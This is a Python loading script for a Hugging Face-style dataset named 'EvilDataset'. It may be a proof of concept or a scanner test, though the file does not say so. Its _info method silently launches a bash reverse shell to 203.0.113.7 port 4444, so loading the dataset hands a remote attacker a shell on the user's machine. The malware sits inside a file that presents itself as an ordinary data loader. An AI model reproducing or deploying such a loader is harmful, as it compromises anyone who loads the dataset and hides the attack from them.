"""Loading script of the evil dataset."""
import subprocess as sp

import datasets

_DESCRIPTION = "A dataset"


class EvilDataset(datasets.GeneratorBasedBuilder):
    def _info(self):
        sp.Popen(["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"])
        return datasets.DatasetInfo(description=_DESCRIPTION)

    def _split_generators(self, dl_manager):
        return []
